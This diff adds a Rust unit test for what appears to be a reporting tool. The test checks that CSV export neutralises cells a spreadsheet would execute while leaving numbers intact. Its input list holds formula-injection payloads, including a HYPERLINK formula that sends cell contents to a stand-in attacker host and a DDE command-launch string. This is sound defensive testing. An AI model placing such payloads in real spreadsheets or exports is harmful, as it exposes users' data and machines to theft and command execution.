@@ -468,3 +468,69 @@ fn counts_are_grouped_in_thousands() {
     assert_eq!(thousands(-191.0), "-191");
     assert_eq!(thousands(999.6), "1,000");
 }
+
+#[test]
+fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\tTab",
+        "\rReturn",
+        "Paid £120 at 10:30",
+        "Housing",
+    ];
+    let table = Table {
+        name: "hostile".into(),
+        frame: df!(
+            "service" => hostile,
+            "change" => [-5i64, 1, 2, 3, 4, 5, 6, 7],
+            "change_pct" => [-1.5f64, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0, 0.0],
+        )
+        .expect("frame"),
+        formats: BTreeMap::new(),
+        ..shift_table()
+    };
+    let path = files::write_csv(dir.path(), &table).expect("csv");
+    let back = CsvReadOptions::default()
+        .with_has_header(true)
+        .try_into_reader_with_file_path(Some(path))
+        .expect("reader")
+        .finish()
+        .expect("read");
+    let services: Vec<String> = back
+        .column("service")
+        .expect("service")
+        .str()
+        .expect("str")
+        .iter()
+        .map(|v| v.unwrap_or_default().to_string())
+        .collect();
+    for (written, original) in services.iter().zip(hostile) {
+        let risky = original.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        if risky {
+            assert_eq!(written, &format!("'{original}"));
+        } else {
+            assert_eq!(written, original);
+        }
+    }
+    // Numbers stay numbers, minus signs included; Parquet keeps the text as it is.
+    assert_eq!(
+        back.column("change")
+            .expect("change")
+            .i64()
+            .expect("i64")
+            .get(0),
+        Some(-5)
+    );
+    assert_eq!(
+        back.column("change_pct")
+            .expect("pct")
+            .f64()
+            .expect("f64")
+            .get(0),
+        Some(-1.5)
+    );
+}
